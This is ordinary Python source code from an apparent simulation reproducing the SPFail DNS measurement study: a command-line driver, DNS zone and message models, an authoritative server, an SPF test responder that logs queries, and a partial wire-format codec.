    trace = sub.add_parser(
        "trace", help="analyze or diff traces produced by --trace"
    )
    trace_sub = trace.add_subparsers(dest="trace_command", required=True)

    summary = trace_sub.add_parser(
        "summary",
        help="stage/span/critical-path summary of one trace (markdown)",
    )
    summary.add_argument("file", help="canonical JSONL trace file")
    summary.add_argument(
        "--out", metavar="FILE", default=None,
        help="write the markdown summary to FILE instead of stdout",
    )
    summary.add_argument(
        "--folded", metavar="FILE", default=None,
        help="also write folded-stack lines (flamegraph input) to FILE",
    )
    summary.add_argument(
        "--top", type=int, default=20, metavar="N",
        help="event names listed in the counts table (default 20)",
    )

    diff = trace_sub.add_parser(
        "diff",
        help="compare two traces; pinpoint the first divergent event",
    )
    diff.add_argument("left", help="baseline trace (JSONL)")
    diff.add_argument("right", help="candidate trace (JSONL)")
    diff.add_argument(
        "--context", type=int, default=3, metavar="N",
        help="shared events shown before the divergence (default 3)",
    )

    profile = trace_sub.add_parser(
        "profile",
        help="join a trace with its --perf sideband: wall-vs-virtual "
        "attribution, hottest spans, cache efficiency, wall flamegraphs",
    )
    profile.add_argument("file", help="canonical JSONL trace file")
    profile.add_argument(
        "--perf", metavar="DIR", required=True,
        help="perf sideband directory written by `run --perf DIR`",
    )
    profile.add_argument(
        "--out", metavar="FILE", default=None,
        help="write the markdown profile to FILE instead of stdout",
    )
    profile.add_argument(
        "--folded", metavar="FILE", default=None,
        help="also write wall-clock folded stacks (flamegraph input) to FILE",
    )
    profile.add_argument(
        "--top", type=int, default=15, metavar="N",
        help="span types listed in the hottest-spans table (default 15)",
    )
    return parser


def _add_output_flags(parser: argparse.ArgumentParser) -> None:
    """Artifact/observability outputs shared by ``run`` and ``resume``.

    ``SUPPRESS`` defaults: the top-level parser already seeded the shared
    namespace with the real defaults.
    """
    parser.add_argument(
        "--artifact", choices=ARTIFACT_NAMES, action="append",
        default=argparse.SUPPRESS,
        help="regenerate only the named table/figure (repeatable)",
    )
    parser.add_argument(
        "--report", metavar="FILE", default=argparse.SUPPRESS,
        help="write the full paper-vs-measured markdown report to FILE",
    )
    parser.add_argument(
        "--export-csv", metavar="DIR", default=argparse.SUPPRESS,
        help="write machine-readable CSVs for the key series to DIR",
    )
    parser.add_argument(
        "--trace", metavar="FILE", default=argparse.SUPPRESS,
        help="write the canonical virtual-time trace (JSONL) to FILE; "
        "byte-identical to the uninterrupted run's trace",
    )
    parser.add_argument(
        "--metrics-out", metavar="FILE", default=argparse.SUPPRESS,
        help="write the observability metrics registry (JSON) to FILE",
    )
    parser.add_argument(
        "--log-level", choices=sorted(LEVELS), default=argparse.SUPPRESS,
        help="enable stdlib logging for the 'repro' logger at this level",
    )
    parser.add_argument(
        "--progress", action="store_true", default=argparse.SUPPRESS,
        help="render live stage progress to stderr",
    )
    parser.add_argument(
        "--perf", metavar="DIR", default=argparse.SUPPRESS,
        help="record wall-clock span timings and resource samples into DIR "
        "(sideband only; canonical artifacts unchanged)",
    )


# -- trace subcommands -----------------------------------------------------------


def _trace_summary(args: argparse.Namespace) -> int:
    from .obs.analyze import TraceAnalysis

    analysis_ = TraceAnalysis.from_file(args.file)
    text = analysis_.render_markdown(top_events=args.top)
    if args.out:
        with open(args.out, "w") as handle:
            handle.write(text)
        print(f"summary written to {args.out}")
    else:
        print(text)
    if args.folded:
        folded = analysis_.folded_stacks()
        with open(args.folded, "w") as handle:
            if folded:
                handle.write(folded + "\n")
        print(f"folded stacks written to {args.folded}", file=sys.stderr)
    return 0


def _trace_profile(args: argparse.Namespace) -> int:
    from .obs.perf import PerfProfile

    profile = PerfProfile.load(args.file, args.perf)
    text = profile.render_markdown(top_spans=args.top)
    if args.out:
        with open(args.out, "w") as handle:
            handle.write(text)
        print(f"profile written to {args.out}")
    else:
        print(text)
    if args.folded:
        folded = profile.folded_wall_stacks()
        with open(args.folded, "w") as handle:
            if folded:
                handle.write(folded + "\n")
        print(f"folded wall stacks written to {args.folded}", file=sys.stderr)
    return 0


def _trace_diff(args: argparse.Namespace) -> int:
    from .obs.diff import diff_files
    from .obs.records import load_jsonl

    divergence = diff_files(args.left, args.right, context=args.context)
    if divergence is None:
        count = len(load_jsonl(args.left))
        print(f"traces identical ({count:,} events)")
        return 0
    print(divergence.render(args.left, args.right))
    return 1


# -- campaign run ----------------------------------------------------------------


def _write_trace(sim: Simulation, path: str) -> int:
    """Write the canonical JSONL trace; returns the event count."""
    assert sim.observation is not None
    return sim.observation.tracer.write_jsonl(path)


def _write_metrics(sim: Simulation, path: str) -> None:
    assert sim.observation is not None and sim.config is not None
    payload = {
        "scale": sim.config.resolved_population().scale,
        "seed": sim.config.seed,
        "workers": sim.config.workers,
        "executor": type(sim.campaign.executor).__name__,
        "metrics": sim.observation.metrics.to_dict(),
        "histogram_percentiles": sim.observation.metrics.percentiles(),
        "executor_stages": sim.campaign.executor.metrics.to_dict(),
    }
    with open(path, "w") as handle:
        json.dump(payload, handle, indent=2, sort_keys=True)
        handle.write("\n")


def _make_observation(args: argparse.Namespace, *, trace: bool) -> Optional[Observation]:
    perf_dir = getattr(args, "perf", None)
    observation = None
    if trace or args.metrics_out or args.log_level or perf_dir:
        observation = Observation(trace=trace)
    if perf_dir:
        from .obs.perf import PerfRecorder

        # Span wall-timing rides the tracer's sink hooks, so callers
        # force trace=True whenever --perf is given.
        observation.attach_perf(PerfRecorder(perf_dir))
    if args.log_level:
        configure_logging(args.log_level)
        if observation is not None and observation.tracer.enabled:
            attach_trace_handler(observation.tracer)
    return observation


def _finalize_perf(observation: Optional[Observation]) -> None:
    """Merge perf part streams and print a one-line summary."""
    if observation is None or observation.perf is None:
        return
    summary = observation.perf.finalize()
    print(
        f"perf: {summary['records']:,} span records, "
        f"{summary['samples']:,} samples from {len(summary['roles'])} "
        f"role(s) merged into {summary['directory']}"
    )


def _emit_outputs(sim: Simulation, args: argparse.Namespace) -> int:
    """Everything after a (completed) campaign: artifacts + observability."""
    if args.report:
        from .analysis.report import generate_report

        text = generate_report(sim)
        with open(args.report, "w") as handle:
            handle.write(text)
        print(f"report written to {args.report}")
    if args.export_csv:
        from .analysis.export import export_all

        written = export_all(sim, args.export_csv)
        print(f"{len(written)} CSV files written to {args.export_csv}")

    if not (args.report or args.export_csv) or args.artifact:
        registry = _artifact_registry(sim)
        names = args.artifact or list(ARTIFACT_NAMES)
        for name in names:
            print()
            print(registry[name]())

    if args.trace:
        count = _write_trace(sim, args.trace)
        print(f"trace: {count:,} events written to {args.trace}")
    if args.metrics_out:
        _write_metrics(sim, args.metrics_out)
        print(f"metrics written to {args.metrics_out}")

    total = sim.campaign.executor.metrics.total()
    print()
    print(
        f"probe execution: {total.probes_attempted:,} probes "
        f"({total.retried} retried, {total.refused} refused) in "
        f"{total.wall_seconds:.2f}s wall / {total.sim_seconds:,.0f}s simulated "
        f"({total.probes_per_second:,.0f} probes/s)"
    )
    return 0


def _run(args: argparse.Namespace, *, legacy: bool = False) -> int:
    from .errors import CampaignAborted

    if args.list:
        print("\n".join(ARTIFACT_NAMES))
        return 0
    if legacy:
        print(
            "note: running via top-level flags is deprecated; "
            "use `python -m repro run ...`",
            file=sys.stderr,
        )

    perf_dir = getattr(args, "perf", None)
    observation = _make_observation(
        args, trace=bool(args.trace) or bool(perf_dir)
    )

    from .api import RunConfig

    config = RunConfig(
        scale=args.scale,
        seed=args.seed,
        executor=args.executor,
        workers=args.workers,
        trace=bool(args.trace) or bool(perf_dir),
        world=getattr(args, "world", "lazy"),
        perf=perf_dir,
    )
    print(f"Building the synthetic Internet (scale={args.scale}, seed={args.seed})...")
    sim = Simulation.build(config=config, observation=observation)
    if observation is not None and observation.perf is not None:
        from .obs.perf import simulation_counters

        observation.perf.start_sampler(lambda: simulation_counters(sim))

    store = None
    store_dir = getattr(args, "store", None)
    if store_dir:
        from .store import RunStore

        store = RunStore(store_dir)
        store.abort_after_round = getattr(args, "abort_after_round", None)
    elif getattr(args, "abort_after_round", None) is not None:
        print("--abort-after-round requires --store", file=sys.stderr)
        return 2

    if args.progress:
        from .obs.progress import ProgressReporter

        reporter = ProgressReporter()
        if observation is not None:
            reporter.perf = observation.perf
        sim.campaign.executor.progress = reporter
    executor_name = type(sim.campaign.executor).__name__
    print(
        f"  {len(sim.population):,} domains / {sim.fleet.total_ip_count():,} addresses; "
        f"running the four-month campaign ({executor_name}, "
        f"workers={args.workers})..."
    )
    try:
        try:
            sim.run(store=store)
        except CampaignAborted as abort:
            print(f"run aborted: {abort}")
            return 0
        return _emit_outputs(sim, args)
    finally:
        # After sim.run the executor has shut down (its finally), so
        # every worker's part streams are on disk and safe to merge.
        _finalize_perf(observation)


def _resume(args: argparse.Namespace) -> int:
    from .api import RunConfig
    from .store import RunStore, StoreError

    store = RunStore(args.store)
    expected = None
    if hasattr(args, "resume_scale") or hasattr(args, "resume_seed"):
        expected = RunConfig(
            scale=getattr(args, "resume_scale", 0.01),
            seed=getattr(args, "resume_seed", 20211011),
        )
    try:
        state = store.load_latest(
            config_hash=expected.content_hash() if expected is not None else None
        )
    except StoreError as error:
        print(f"resume failed: {error}", file=sys.stderr)
        return 2

    perf_dir = getattr(args, "perf", None)
    trace = state.config.trace or bool(args.trace) or bool(perf_dir)
    if args.trace and not state.config.trace:
        print(
            "warning: the stored run was not traced; the resumed trace "
            "will miss the checkpointed prefix",
            file=sys.stderr,
        )
    observation = _make_observation(args, trace=trace)

    overrides = {}
    if hasattr(args, "resume_executor"):
        overrides["executor"] = args.resume_executor
    if hasattr(args, "resume_workers"):
        overrides["workers"] = args.resume_workers
    # Whether the resumed leg is profiled is always this invocation's
    # choice — never inherited from the checkpointed config.
    sim = Simulation.resume(
        state, observation=observation, perf=perf_dir, **overrides
    )
    if observation is not None and observation.perf is not None:
        from .obs.perf import simulation_counters

        observation.perf.start_sampler(lambda: simulation_counters(sim))
    provenance = sim.provenance
    print(
        f"Resuming {state.run_id} (config {provenance.config_hash[:12]}) from "
        f"checkpoint '{provenance.checkpoint_kind}' with "
        f"{provenance.rounds_completed} rounds completed..."
    )

    if args.progress:
        from .obs.progress import ProgressReporter

        reporter = ProgressReporter()
        if observation is not None:
            reporter.perf = observation.perf
        sim.campaign.executor.progress = reporter
    try:
        sim.run(store=store)
        return _emit_outputs(sim, args)
    finally:
        _finalize_perf(observation)


def main(argv=None) -> int:
    parser = _build_parser()
    args = parser.parse_args(argv)
    command = getattr(args, "command", None)
    if command == "trace":
        if args.trace_command == "summary":
            return _trace_summary(args)
        if args.trace_command == "profile":
            return _trace_profile(args)
        return _trace_diff(args)
    if command == "resume":
        return _resume(args)
    return _run(args, legacy=command is None)


if __name__ == "__main__":
    sys.exit(main())
