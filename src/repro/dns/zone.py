"""Authoritative zone data.

A :class:`Zone` owns an origin name and a set of RRsets indexed by
(owner name, type).  Lookup implements the cases an authoritative server
must distinguish: exact match, CNAME redirection, NODATA (name exists but
not that type), NXDOMAIN, and wildcard synthesis (``*`` leftmost label).
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple, Union

from ..errors import DnsError
from .name import Name
from .rdata import CNAME, RRType, Rdata, ResourceRecord, SOA


class LookupStatus(enum.Enum):
    SUCCESS = "success"
    NODATA = "nodata"
    NXDOMAIN = "nxdomain"
    CNAME = "cname"
    OUT_OF_ZONE = "out-of-zone"


@dataclass
class LookupResult:
    status: LookupStatus
    records: List[ResourceRecord] = field(default_factory=list)
    cname_target: Optional[Name] = None


class Zone:
    """A DNS zone: an origin and its resource records."""

    def __init__(self, origin: Union[str, Name], *, default_ttl: int = 300) -> None:
        self.origin = origin if isinstance(origin, Name) else Name.from_text(origin)
        self.default_ttl = default_ttl
        self._rrsets: Dict[Tuple[Tuple[str, ...], RRType], List[ResourceRecord]] = {}
        self._names: set = set()
        # Every zone gets a synthetic SOA at the apex so NXDOMAIN/NODATA
        # responses can carry the negative-caching TTL.
        self.add(self.origin, SOA(self.origin.prepend("ns1"), self.origin.prepend("hostmaster")))

    def _full_name(self, name: Union[str, Name]) -> Name:
        """Resolve a possibly-relative name against the origin.

        Strings are treated as relative unless they already end in the
        origin; ``Name`` objects are always absolute.
        """
        if isinstance(name, Name):
            return name
        parsed = Name.from_text(name)
        if parsed.is_subdomain_of(self.origin):
            return parsed
        return parsed.concatenate(self.origin)

    def add(
        self,
        name: Union[str, Name],
        rdata: Rdata,
        ttl: Optional[int] = None,
    ) -> ResourceRecord:
        """Add one record. Relative names are interpreted against the origin."""
        full = self._full_name(name)
        if not full.is_subdomain_of(self.origin):
            raise DnsError(f"{full} is not within zone {self.origin}")
        rr = ResourceRecord(
            name=full,
            rdata=rdata,
            ttl=ttl if ttl is not None else self.default_ttl,
        )
        key = (full.key, rdata.rrtype)
        self._rrsets.setdefault(key, []).append(rr)
        # Record the name and all ancestors up to the origin as existing
        # (empty non-terminals must yield NODATA, not NXDOMAIN).
        walker = full
        while True:
            self._names.add(walker.key)
            if walker == self.origin or walker.is_root():
                break
            walker = walker.parent()
        return rr

    def remove(self, name: Union[str, Name], rrtype: Optional[RRType] = None) -> int:
        """Remove records at ``name`` (optionally only of ``rrtype``)."""
        full = self._full_name(name)
        removed = 0
        for key in list(self._rrsets):
            if key[0] == full.key and (rrtype is None or key[1] == rrtype):
                removed += len(self._rrsets.pop(key))
        return removed

    def rrset(self, name: Union[str, Name], rrtype: RRType) -> List[ResourceRecord]:
        full = self._full_name(name)
        return list(self._rrsets.get((full.key, rrtype), []))

    @property
    def soa(self) -> ResourceRecord:
        return self._rrsets[(self.origin.key, RRType.SOA)][0]

    def __contains__(self, name: Union[str, Name]) -> bool:
        full = self._full_name(name)
        return full.key in self._names

    def __len__(self) -> int:
        return sum(len(v) for v in self._rrsets.values())

    def lookup(self, name: Name, rrtype: RRType) -> LookupResult:
        """Authoritative lookup with CNAME and wildcard handling."""
        if not name.is_subdomain_of(self.origin):
            return LookupResult(LookupStatus.OUT_OF_ZONE)

        exact = self._rrsets.get((name.key, rrtype))
        if exact:
            return LookupResult(LookupStatus.SUCCESS, list(exact))

        cname = self._rrsets.get((name.key, RRType.CNAME))
        if cname and rrtype != RRType.CNAME:
            target = cname[0].rdata
            assert isinstance(target, CNAME)
            return LookupResult(
                LookupStatus.CNAME, list(cname), cname_target=target.target
            )

        if name.key in self._names:
            return LookupResult(LookupStatus.NODATA)

        # Wildcard synthesis: the closest enclosing wildcard, if any.
        candidate = name
        while len(candidate) > len(self.origin):
            wild = candidate.parent().prepend("*")
            rrs = self._rrsets.get((wild.key, rrtype))
            if rrs:
                synthesized = [
                    ResourceRecord(name=name, rdata=rr.rdata, ttl=rr.ttl) for rr in rrs
                ]
                return LookupResult(LookupStatus.SUCCESS, synthesized)
            if wild.key in self._names:
                return LookupResult(LookupStatus.NODATA)
            candidate = candidate.parent()

        return LookupResult(LookupStatus.NXDOMAIN)
