"""A self-contained DNS substrate.

This package models the pieces of the DNS that SPFail relies on:

- :mod:`repro.dns.name` — domain names with label semantics (RFC 1035),
- :mod:`repro.dns.rdata` — record data types (A, AAAA, TXT, MX, NS, ...),
- :mod:`repro.dns.message` — query/response messages and response codes,
- :mod:`repro.dns.wire` — the RFC 1035 wire codec with name compression,
- :mod:`repro.dns.zone` — authoritative zone data,
- :mod:`repro.dns.server` — an authoritative server with a query log and a
  dynamic SPF responder (the paper's ``spf-test.dns-lab.org`` server),
- :mod:`repro.dns.resolver` — a caching resolver used by simulated MTAs,
- :mod:`repro.dns.querylog` — the measurement-side record of queries seen.

The query log is the observable on which the whole SPFail detection
technique rests: a vulnerable MTA betrays itself by the domain name it
queries after expanding an SPF macro.
"""

from .name import Name
from .rdata import (
    RRType,
    RClass,
    Rdata,
    A,
    AAAA,
    TXT,
    MX,
    NS,
    SOA,
    CNAME,
    PTR,
    ResourceRecord,
)
from .message import Message, Question, Rcode, Opcode
from .zone import Zone
from .server import AuthoritativeServer, SpfTestResponder
from .resolver import CachingResolver, StubResolver
from .querylog import QueryLog, QueryLogEntry
from .wiretransport import WireTransportBackend
from .zonefile import parse_zone_file

__all__ = [
    "Name",
    "RRType",
    "RClass",
    "Rdata",
    "A",
    "AAAA",
    "TXT",
    "MX",
    "NS",
    "SOA",
    "CNAME",
    "PTR",
    "ResourceRecord",
    "Message",
    "Question",
    "Rcode",
    "Opcode",
    "Zone",
    "AuthoritativeServer",
    "SpfTestResponder",
    "CachingResolver",
    "StubResolver",
    "QueryLog",
    "QueryLogEntry",
    "WireTransportBackend",
    "parse_zone_file",
]
