"""DNS messages: queries and responses.

Models the subset of RFC 1035 message semantics the reproduction needs:
header flags (QR, AA, RD, RA), response codes, a single question, and
answer/authority/additional sections.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import List, Optional

from .name import Name
from .rdata import RClass, RRType, ResourceRecord


class Opcode(enum.IntEnum):
    QUERY = 0
    NOTIFY = 4
    UPDATE = 5


class Rcode(enum.IntEnum):
    """Response codes (RFC 1035 section 4.1.1)."""

    NOERROR = 0
    FORMERR = 1
    SERVFAIL = 2
    NXDOMAIN = 3
    NOTIMP = 4
    REFUSED = 5


@dataclass(frozen=True)
class Question:
    """A question section entry."""

    name: Name
    rrtype: RRType
    rclass: RClass = RClass.IN

    def to_text(self) -> str:
        return f"{self.name}. {self.rclass.name} {self.rrtype.name}"


@dataclass
class Message:
    """A DNS message.

    Only the fields exercised by the simulation are modeled.  ``id`` is
    assigned by the transport; flags default to a recursive query.
    """

    id: int = 0
    opcode: Opcode = Opcode.QUERY
    rcode: Rcode = Rcode.NOERROR
    is_response: bool = False
    authoritative: bool = False
    recursion_desired: bool = True
    recursion_available: bool = False
    question: Optional[Question] = None
    answers: List[ResourceRecord] = field(default_factory=list)
    authority: List[ResourceRecord] = field(default_factory=list)
    additional: List[ResourceRecord] = field(default_factory=list)

    @classmethod
    def make_query(
        cls,
        name: Name,
        rrtype: RRType,
        *,
        id: int = 0,
        recursion_desired: bool = True,
    ) -> "Message":
        """Build a standard query message."""
        # Hot path: direct attribute assignment skips the dataclass
        # __init__'s keyword matching and default handling.
        msg = cls.__new__(cls)
        msg.id = id
        msg.opcode = Opcode.QUERY
        msg.rcode = Rcode.NOERROR
        msg.is_response = False
        msg.authoritative = False
        msg.recursion_desired = recursion_desired
        msg.recursion_available = False
        msg.question = Question(name, rrtype)
        msg.answers = []
        msg.authority = []
        msg.additional = []
        return msg

    def make_response(self, rcode: Rcode = Rcode.NOERROR) -> "Message":
        """Build a response skeleton echoing this query."""
        msg = Message.__new__(Message)
        msg.id = self.id
        msg.opcode = self.opcode
        msg.rcode = rcode
        msg.is_response = True
        msg.authoritative = False
        msg.recursion_desired = self.recursion_desired
        msg.recursion_available = False
        msg.question = self.question
        msg.answers = []
        msg.authority = []
        msg.additional = []
        return msg

    def answer_rrset(self, rrtype: Optional[RRType] = None) -> List[ResourceRecord]:
        """Answers filtered to ``rrtype`` (or the question's type)."""
        if rrtype is None:
            if self.question is None:
                return list(self.answers)
            rrtype = self.question.rrtype
        return [rr for rr in self.answers if rr.rrtype == rrtype]

    def to_text(self) -> str:
        """A dig-like presentation of the message, for debugging."""
        lines = []
        kind = "RESPONSE" if self.is_response else "QUERY"
        flags = []
        if self.authoritative:
            flags.append("aa")
        if self.recursion_desired:
            flags.append("rd")
        if self.recursion_available:
            flags.append("ra")
        lines.append(f";; {kind} id={self.id} rcode={self.rcode.name} flags={' '.join(flags)}")
        if self.question is not None:
            lines.append(";; QUESTION")
            lines.append(";" + self.question.to_text())
        for title, section in (
            ("ANSWER", self.answers),
            ("AUTHORITY", self.authority),
            ("ADDITIONAL", self.additional),
        ):
            if section:
                lines.append(f";; {title}")
                lines.extend(rr.to_text() for rr in section)
        return "\n".join(lines)
