"""Authoritative DNS servers.

Two server flavors are modeled:

- :class:`AuthoritativeServer` serves static zone data, answering with the
  standard authoritative-lookup semantics from :mod:`repro.dns.zone`.
- :class:`SpfTestResponder` is the measurement team's dynamic server for
  ``spf-test.dns-lab.org``: it synthesizes the macro-bearing SPF TXT policy
  for *any* ``<id>.<suite>`` subdomain, answers all A/AAAA queries under the
  base (so SPF evaluation proceeds), and records every query in a
  :class:`~repro.dns.querylog.QueryLog` — the paper's sole observable.
"""

from __future__ import annotations

import datetime as _dt
from typing import Callable, Dict, List, Optional

from ..errors import DnsError
from ..obs import context as _obs
from .message import Message, Rcode
from .name import Name
from .querylog import QueryLog
from .rdata import A, AAAA, RRType, ResourceRecord, TXT
from .zone import LookupStatus, Zone


class DnsBackend:
    """Anything that can answer a DNS query message."""

    def query(self, message: Message, *, source: str = "", now: Optional[_dt.datetime] = None) -> Message:
        raise NotImplementedError


class AuthoritativeServer(DnsBackend):
    """An authoritative server hosting one or more static zones."""

    def __init__(self, zones: Optional[List[Zone]] = None) -> None:
        self._zones: Dict[tuple, Zone] = {}
        for zone in zones or []:
            self.add_zone(zone)

    def add_zone(self, zone: Zone) -> None:
        self._zones[zone.origin.key] = zone

    def zone_for(self, name: Name) -> Optional[Zone]:
        """Longest-match zone containing ``name``."""
        zones = self._zones
        key = name.key
        for i in range(len(key) + 1):
            zone = zones.get(key[i:])
            if zone is not None:
                return zone
        return None

    def query(self, message: Message, *, source: str = "", now: Optional[_dt.datetime] = None) -> Message:
        if message.question is None:
            return message.make_response(Rcode.FORMERR)
        qname, rrtype = message.question.name, message.question.rrtype
        obs = _obs.ACTIVE
        if obs is not None:
            obs.metrics.counter("dns.authoritative_queries").inc(rrtype.name)
        zone = self.zone_for(qname)
        if zone is None:
            return message.make_response(Rcode.REFUSED)

        response = message.make_response()
        response.authoritative = True
        # Follow CNAME chains within the zone, as authoritative servers do.
        current = qname
        for _ in range(8):
            result = zone.lookup(current, rrtype)
            if result.status == LookupStatus.SUCCESS:
                response.answers.extend(result.records)
                return response
            if result.status == LookupStatus.CNAME:
                response.answers.extend(result.records)
                assert result.cname_target is not None
                current = result.cname_target
                if zone.lookup(current, rrtype).status == LookupStatus.OUT_OF_ZONE:
                    return response
                continue
            if result.status == LookupStatus.NODATA:
                response.authority.append(zone.soa)
                return response
            if result.status == LookupStatus.NXDOMAIN:
                response.rcode = Rcode.NXDOMAIN
                response.authority.append(zone.soa)
                return response
            break
        raise DnsError(f"CNAME chain too long at {qname}")


#: Builds the SPF policy text served for a given (id, suite) pair.
PolicyTemplate = Callable[[str, str, Name], str]


def default_policy_template(test_id: str, suite: str, base: Name) -> str:
    """The paper's macro-bearing measurement policy (Section 5.1)."""
    tail = f"{test_id}.{suite}.{base}"
    return f"v=spf1 a:%{{d1r}}.{tail} a:b.{tail} -all"


class SpfTestResponder(DnsBackend):
    """The dynamic measurement server for ``spf-test.dns-lab.org``.

    For a TXT query at ``<id>.<suite>.<base>`` it synthesizes the SPF
    policy with the id/suite labels copied from the query name.  For
    A/AAAA queries anywhere under the base it returns a fixed address, so
    that SPF evaluation on the probed MTA completes normally regardless of
    how the macro was (mis)expanded.  Every query under the base is logged.
    """

    def __init__(
        self,
        base: Name,
        *,
        policy_template: PolicyTemplate = default_policy_template,
        answer_address: str = "192.0.2.53",
        ttl: int = 1,
    ) -> None:
        self.base = base
        self.policy_template = policy_template
        self.answer_address = answer_address
        self.ttl = ttl
        self.log = QueryLog(base)
        # Hot-path caches: the A rdata and the SOA record never vary, and
        # both are immutable, so one shared instance serves every answer.
        self._a_rdata = A(answer_address)
        self._soa_record: Optional[ResourceRecord] = None

    def query(self, message: Message, *, source: str = "", now: Optional[_dt.datetime] = None) -> Message:
        if message.question is None:
            return message.make_response(Rcode.FORMERR)
        qname, rrtype = message.question.name, message.question.rrtype
        obs = _obs.ACTIVE
        if not qname.is_subdomain_of(self.base):
            if obs is not None:
                obs.metrics.counter("dns.measurement_refused").inc()
            return message.make_response(Rcode.REFUSED)
        if obs is not None:
            obs.metrics.counter("dns.measurement_queries").inc(rrtype.name)

        timestamp = now if now is not None else _dt.datetime.now(tz=_dt.timezone.utc)
        self.log.record(timestamp, qname, rrtype, source=source)

        response = message.make_response()
        response.authoritative = True

        if rrtype == RRType.TXT:
            relative = qname.relativize(self.base)
            # DMARC: every probe source domain publishes an outright-reject
            # policy (paper Section 6.2), so stray probe email is refused
            # rather than delivered.
            if relative.labels and relative.labels[0].lower() == "_dmarc":
                response.answers.append(
                    ResourceRecord(
                        name=qname,
                        rdata=TXT("v=DMARC1; p=reject; sp=reject"),
                        ttl=self.ttl,
                    )
                )
                return response
            labels = self.log.extract_labels(qname)
            if labels is not None:
                suite, test_id = labels
                # Only the exact <id>.<suite> owner carries the policy; any
                # deeper name would be macro output, which has no TXT.
                if len(relative) == 2:
                    policy = self.policy_template(test_id, suite, self.base)
                    response.answers.append(
                        ResourceRecord(name=qname, rdata=TXT(policy), ttl=self.ttl)
                    )
                    return response
            response.authority.append(self._soa())
            return response

        if rrtype == RRType.A:
            response.answers.append(
                ResourceRecord(name=qname, rdata=self._a_rdata, ttl=self.ttl)
            )
            return response
        if rrtype == RRType.AAAA:
            # NODATA for AAAA: the measurement network is IPv4-only, and a
            # NODATA answer still proves the query arrived.
            response.authority.append(self._soa())
            return response

        response.authority.append(self._soa())
        return response

    def _soa(self) -> ResourceRecord:
        record = self._soa_record
        if record is None:
            from .rdata import SOA

            record = self._soa_record = ResourceRecord(
                name=self.base,
                rdata=SOA(self.base.prepend("ns1"), self.base.prepend("hostmaster")),
                ttl=self.ttl,
            )
        return record
