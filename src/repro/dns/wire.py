"""RFC 1035 wire-format codec for DNS messages.

Encodes and decodes :class:`~repro.dns.message.Message` objects, including
name compression for owner names.  The simulated transport passes message
objects directly for speed, but the codec is exercised by tests (round-trip
property tests) and available for pcap-style export, keeping the substrate
honest about what a real deployment would put on the wire.
"""

from __future__ import annotations

import struct
from typing import Dict, List, Tuple

from ..errors import WireFormatError
from .message import Message, Opcode, Question, Rcode
from .name import Name
from .rdata import RClass, RRType, ResourceRecord, rdata_class_for

_HEADER = struct.Struct("!HHHHHH")

_FLAG_QR = 0x8000
_FLAG_AA = 0x0400
_FLAG_TC = 0x0200
_FLAG_RD = 0x0100
_FLAG_RA = 0x0080

MAX_POINTER_HOPS = 64


class _Encoder:
    def __init__(self) -> None:
        self.out = bytearray()
        self.offsets: Dict[Tuple[str, ...], int] = {}

    def write_name(self, name: Name, *, compress: bool = True) -> None:
        labels = name.labels
        for i in range(len(labels)):
            suffix_key = tuple(l.lower() for l in labels[i:])
            if compress and suffix_key in self.offsets:
                pointer = self.offsets[suffix_key]
                self.out.extend(struct.pack("!H", 0xC000 | pointer))
                return
            # Pointers encode 14-bit offsets, so 0x3FFF itself is still
            # addressable; and with compression off there is no point
            # (and no correctness) in registering targets at all.
            if compress and len(self.out) <= 0x3FFF:
                self.offsets[suffix_key] = len(self.out)
            raw = labels[i].encode("ascii", errors="replace")
            self.out.append(len(raw))
            self.out.extend(raw)
        self.out.append(0)

    def write_question(self, q: Question) -> None:
        self.write_name(q.name)
        self.out.extend(struct.pack("!HH", int(q.rrtype), int(q.rclass)))

    def write_rr(self, rr: ResourceRecord) -> None:
        self.write_name(rr.name)
        rdata = rr.rdata.to_wire()
        self.out.extend(
            struct.pack("!HHIH", int(rr.rrtype), int(rr.rclass), rr.ttl, len(rdata))
        )
        self.out.extend(rdata)


def to_wire(message: Message) -> bytes:
    """Encode a message to RFC 1035 wire format."""
    enc = _Encoder()
    flags = (int(message.opcode) & 0xF) << 11 | (int(message.rcode) & 0xF)
    if message.is_response:
        flags |= _FLAG_QR
    if message.authoritative:
        flags |= _FLAG_AA
    if message.recursion_desired:
        flags |= _FLAG_RD
    if message.recursion_available:
        flags |= _FLAG_RA
    qdcount = 1 if message.question is not None else 0
    enc.out.extend(
        _HEADER.pack(
            message.id & 0xFFFF,
            flags,
            qdcount,
            len(message.answers),
            len(message.authority),
            len(message.additional),
        )
    )
    if message.question is not None:
        enc.write_question(message.question)
    for section in (message.answers, message.authority, message.additional):
        for rr in section:
            enc.write_rr(rr)
    return bytes(enc.out)


class _Decoder:
    def __init__(self, data: bytes) -> None:
        self.data = data
        self.pos = 0

    def read(self, n: int) -> bytes:
        if self.pos + n > len(self.data):
            raise WireFormatError("message truncated")
        chunk = self.data[self.pos : self.pos + n]
        self.pos += n
        return chunk

    def read_name(self) -> Name:
        labels: List[str] = []
        pos = self.pos
        jumped = False
        hops = 0
        while True:
            if pos >= len(self.data):
                raise WireFormatError("name overruns message")
            length = self.data[pos]
            if length & 0xC0 == 0xC0:
                if pos + 1 >= len(self.data):
                    raise WireFormatError("truncated compression pointer")
                target = ((length & 0x3F) << 8) | self.data[pos + 1]
                if not jumped:
                    self.pos = pos + 2
                    jumped = True
                if target >= pos:
                    raise WireFormatError("compression pointer does not point backwards")
                pos = target
                hops += 1
                if hops > MAX_POINTER_HOPS:
                    raise WireFormatError("compression pointer loop")
                continue
            if length & 0xC0:
                raise WireFormatError(f"bad label length byte 0x{length:02x}")
            pos += 1
            if length == 0:
                if not jumped:
                    self.pos = pos
                return Name(labels)
            if pos + length > len(self.data):
                raise WireFormatError("label overruns message")
            labels.append(self.data[pos : pos + length].decode("ascii", errors="replace"))
            pos += length

    def read_question(self) -> Question:
        name = self.read_name()
        rrtype, rclass = struct.unpack("!HH", self.read(4))
        return Question(name, RRType(rrtype), RClass(rclass))

    def read_rr(self) -> ResourceRecord:
        name = self.read_name()
        rrtype, rclass, ttl, rdlength = struct.unpack("!HHIH", self.read(10))
        rdata_wire = self.read(rdlength)
        rdata = rdata_class_for(RRType(rrtype)).from_wire(rdata_wire)
        return ResourceRecord(name=name, rdata=rdata, ttl=ttl, rclass=RClass(rclass))


def from_wire(data: bytes) -> Message:
    """Decode an RFC 1035 wire-format message."""
    if len(data) < _HEADER.size:
        raise WireFormatError(f"message too short ({len(data)} bytes)")
    dec = _Decoder(data)
